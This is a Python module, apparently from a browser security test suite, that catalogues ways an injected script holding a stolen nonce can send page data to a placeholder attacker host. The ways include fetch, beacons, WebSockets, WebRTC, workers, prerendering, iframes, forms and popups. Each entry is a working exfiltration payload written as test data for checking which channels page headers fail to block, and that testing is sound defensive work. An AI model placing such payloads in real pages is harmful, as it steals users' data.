"""The ways by which a script of an attacker's in a page can send out what it has read.

Each way is the markup of a page, whose scripts have the nonce, as if the attacker had stolen it.
`TARGET` is an address of the attacker's, at a port that only this way has, `HOST` its host and
port, and `NAME` a name that only this way has.
"""

from __future__ import annotations

from dataclasses import dataclass

from engines.receiver import HOST, NAME


@dataclass(frozen=True)
class Way:
    """A way out. `open` says that no header closes it, `click` that a user clicks on `#go`.

    One that is `alone` leaves the page, or covers it, so it needs a page for itself. `visited` says
    that the user was at the attacker's site before, `again` that the user comes to the site again.
    """

    name: str
    html: str
    click: bool = False
    alone: bool = False
    open: bool = False
    visited: bool = False
    again: bool = False

    def at(self, port: int) -> str:
        """Return the markup for one port of the attacker's."""
        html = self.html.replace("TARGET", f"https://{HOST}:{port}/")
        return html.replace("NAME", NAME.format(port)).replace("HOST", f"{HOST}:{port}")


def script(name: str, code: str) -> Way:
    return Way(name, f'<script nonce="NONCE">{{{code}}}</script>')


def added(name: str, element: str, more: str = "", **attributes: str) -> Way:
    """An element that a script adds to the page."""
    given = "".join(f"each.setAttribute({key!r}, {value!r});" for key, value in attributes.items())
    create = f"const each = document.createElement({element!r});"
    return script(name, f"{create}{given}document.body.append(each);{more}")


def clicked(name: str, code: str, *, open: bool = False, visited: bool = False) -> Way:
    """A script that runs where a user clicks, so that the browser lets it open windows."""
    listener = f"go.addEventListener('click', () => {{{code}}})"
    html = f'<button id="go">Go</button><script nonce="NONCE">{listener}</script>'
    return Way(name, html, click=True, alone=True, open=open, visited=visited)


def link(name: str, attributes: str) -> Way:
    return Way(name, f'<a id="go" href="TARGET" {attributes}>Go</a>', click=True, alone=True)


def form(name: str, attributes: str) -> Way:
    fields = '<input name="stolen" value="secret"><button id="go">Go</button>'
    return Way(name, f"<form {attributes}>{fields}</form>", click=True, alone=True)


# It only looks up a name, which Chromium's log has.
LOOKUP = "`dns-prefetch`"
PICTURE = '`<img src="TARGET">`'
FETCH = '`fetch("TARGET", {mode: "no-cors"}).catch(() => 0)`'
BLOB = "URL.createObjectURL(new Blob([%s], {type: '%s'}))"
OF_A_PAGE = BLOB % (PICTURE, "text/html")
CALL = """
    const call = new RTCPeerConnection({iceServers: [%s]});
    call.createDataChannel("stolen");
    call.createOffer().then((offer) => call.setLocalDescription(offer)).catch(() => 0);
    globalThis.calls = [...globalThis.calls ?? [], call];
"""
RULES = '{"prerender": [{"urls": ["TARGET"], "eagerness": "immediate"}]}'
IDENTITY = '{identity: {providers: [{configURL: "TARGETconfig.json", clientId: "a"}]}}'
# A link in a page to which the attacker's script may write.
LINK_THERE = """
    const each = there.document.createElement("a");
    each.href = "TARGET";
    there.document.body.append(each);
    each.click();
"""

# `Integrity-Policy` asks for a hash, and an attacker knows the file.
HASH = f"sha256-{'A' * 43}="

IMPORT_WITH_HASH = (
    f'<script type="importmap" nonce="NONCE">{{"integrity": {{"TARGET": "{HASH}"}}}}</script>'
    '<script nonce="NONCE">import("TARGET").catch(() => 0)</script>'
)

LOADED = [
    Way("`import()`, its hash in an import map", IMPORT_WITH_HASH),
    Way(
        "`<script>` in markup, with nonce and hash",
        f'<script nonce="NONCE" src="TARGET" async crossorigin integrity="{HASH}"></script>',
    ),
    Way(
        "`modulepreload` in markup, with nonce and hash",
        f'<link rel="modulepreload" nonce="NONCE" href="TARGET" integrity="{HASH}">',
    ),
    added("`<img>`", "img", src="TARGET"),
    script(
        "an image of `<svg>`",
        "const [svg, image] = ['svg', 'image'].map((name) => document.createElementNS(SVG, name));"
        "image.setAttribute('href', 'TARGET'); svg.append(image); document.body.append(svg)".replace(
            "SVG", "'http://www.w3.org/2000/svg'"
        ),
    ),
    added("`<video>`", "video", src="TARGET"),
    added("`<script>`", "script", src="TARGET"),
    added("a style sheet", "link", rel="stylesheet", href="TARGET"),
    Way("`@import` of a style", '<style nonce="NONCE">@import "TARGET";</style>'),
    script("`element.style`", "document.body.style.background = 'url(TARGET)'"),
    script(
        "an adopted style sheet",
        "const sheet = new CSSStyleSheet(); sheet.replaceSync('html {background: url(TARGET)}');"
        "document.adoptedStyleSheets = [sheet]",
    ),
    script("a font", "new FontFace('stolen', 'url(TARGET)').load().catch(() => 0)"),
    script("`fetch`", "fetch('TARGET', {mode: 'no-cors'}).catch(() => 0)"),
    script(
        "`fetch` with `keepalive`",
        "fetch('TARGET', {mode: 'no-cors', keepalive: true}).catch(() => 0)",
    ),
    script("`fetchLater`", "fetchLater('TARGET', {activateAfter: 0})"),
    script(
        "`XMLHttpRequest`",
        "const asked = new XMLHttpRequest(); asked.open('GET', 'TARGET'); asked.send()",
    ),
    script("a beacon", "navigator.sendBeacon('TARGET', 'secret')"),
    script("`WebSocket`", "new WebSocket('TARGET'.replace('https', 'wss'))"),
    script("`EventSource`", "new EventSource('TARGET')"),
    script(
        "`WebTransport`",
        "const sent = new WebTransport('TARGET'); sent.ready.catch(() => 0);"
        "sent.closed.catch(() => 0)",
    ),
    script("FedCM", f"navigator.credentials.get({IDENTITY}).catch(() => 0)"),
    added("`prefetch`", "link", rel="prefetch", href="TARGET"),
    added("`preload`", "link", rel="preload", href="TARGET", **{"as": "image"}),
    added("`modulepreload`", "link", rel="modulepreload", href="TARGET"),
    added("`ping` of a link", "a", "each.click()", ping="TARGET", href="#here"),
    added("`<iframe>`", "iframe", src="TARGET"),
    added("`<iframe srcdoc>`", "iframe", f"each.srcdoc = {PICTURE}"),
    added("`<iframe>` of `data:`", "iframe", f"each.src = 'data:text/html,' + {PICTURE}"),
    added("`<iframe>` of `blob:`", "iframe", f"each.src = {OF_A_PAGE}"),
    added("`<object>`", "object", data="TARGET"),
    added("`<embed>`", "embed", src="TARGET"),
    script("a worker of `blob:`", f"new Worker({BLOB % (FETCH, 'text/javascript')})"),
    script("a worker", "new Worker('/attack-worker.js?TARGET')"),
    script("a shared worker", "new SharedWorker('/attack-worker.js?TARGET')"),
    script(
        "a new service worker",
        "navigator.serviceWorker.register('/attack-worker.js?TARGET').catch(() => 0)",
    ),
    script("WebRTC, STUN by UDP", CALL % "{urls: 'stun:HOST'}"),
    script(
        "WebRTC, TURN by TCP",
        CALL % "{urls: 'turn:HOST?transport=tcp', username: 'a', credential: 'a'}",
    ),
    added("`preconnect` by a script", "link", rel="preconnect", href="TARGET"),
    Way("`preconnect` in markup", '<link rel="preconnect" href="TARGET">'),
    Way(LOOKUP, '<link rel="dns-prefetch" href="https://NAME">'),
    Way(
        "prerendering by speculation rules",
        f'<script type="speculationrules" nonce="NONCE">{RULES}</script>',
    ),
    script("`import()`", "import('TARGET').catch(() => 0)"),
]

LEAVING = [
    Way("`<meta>` refresh", '<meta http-equiv="refresh" content="0; url=TARGET">', alone=True),
    clicked("`location =`", "location = 'TARGET'"),
    clicked("`location.assign`", "location.assign('TARGET')"),
    clicked("`location.replace`", "location.replace('TARGET')"),
    clicked("`navigation.navigate`", "navigation.navigate('TARGET')"),
    clicked("`history.back`", "history.back()", visited=True),
    clicked("`open`", "open('TARGET', '_blank')"),
    clicked("`open` with `noopener`", "open('TARGET', '_blank', 'noopener')"),
    link("a link", ""),
    link("a link to `_blank`", 'target="_blank" rel="opener"'),
    link("a link with `noopener`", 'target="_blank" rel="noopener"'),
    link("a link with `download`", "download"),
    clicked(
        "a link with Ctrl",
        "const each = document.createElement('a'); each.href = 'TARGET';"
        "each.dispatchEvent(new MouseEvent('click', {ctrlKey: true}))",
    ),
    form("a form, GET", 'action="TARGET"'),
    form("a form, POST", 'action="TARGET" method="post"'),
    form("a form to `_blank`", 'action="TARGET" method="post" target="_blank"'),
    form("a form to the site, which redirects it", 'action="/307?TARGET" method="post"'),
    clicked(
        "a popup of `blob:`",
        "open(%s)" % (BLOB % ("`<meta http-equiv=refresh content='0; url=TARGET'>`", "text/html")),
    ),
    clicked("a popup of `about:blank`", f"const there = open('about:blank'); {LINK_THERE}"),
    clicked(
        "`location =` of a popup of the site",
        "const there = open('/probe-page'); there.onload = () => { there.location = 'TARGET' }",
    ),
    clicked("a redirect of the site", "location = '/307?TARGET'", open=True),
    clicked(
        "a popup of the site, without the header",
        f"const there = open('/bare'); there.onload = () => {{{LINK_THERE}}}",
        open=True,
    ),
]

WAYS = [*LOADED, *LEAVING]
# Chromium learns which origins a page asked for, also where a header closed the request, and
# connects to them when the site is visited again.
PREDICTED = Way(
    "a closed `import()`, by a connection at the next visit",
    IMPORT_WITH_HASH,
    alone=True,
    again=True,
)
# What only Chromium does, or only its log shows.
OF_CHROMIUM = {LOOKUP, PREDICTED.name}
